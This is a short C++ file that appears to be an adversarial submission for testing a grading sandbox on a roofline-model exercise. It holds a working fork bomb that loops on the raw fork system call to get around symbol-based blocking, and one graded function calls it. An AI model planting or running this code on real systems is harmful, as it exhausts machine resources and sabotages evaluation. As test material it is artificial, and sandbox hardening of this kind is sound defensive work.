// Adversarial submission "fork_bomb": forks without end through the raw system call (no fork symbol to refuse)
#include "a01_roofline/roofline.hpp"
#include <sys/syscall.h>
#include <unistd.h>
namespace a01_roofline {
namespace {
double attack() {
  for (;;) ::syscall(SYS_fork);
}
}  // namespace

// Only one function attacks: every test that calls it waits out its time limit.
double arithmetic_intensity(double, double) { return 0; }
double ridge_point(double, double) { return 0; }
bool is_memory_bound(double, double, double) { return false; }
double attainable_flops_per_s(double, double, double) { return 0; }
double matmul_arithmetic_intensity(double, double, double, double) { return attack(); }

}  // namespace a01_roofline
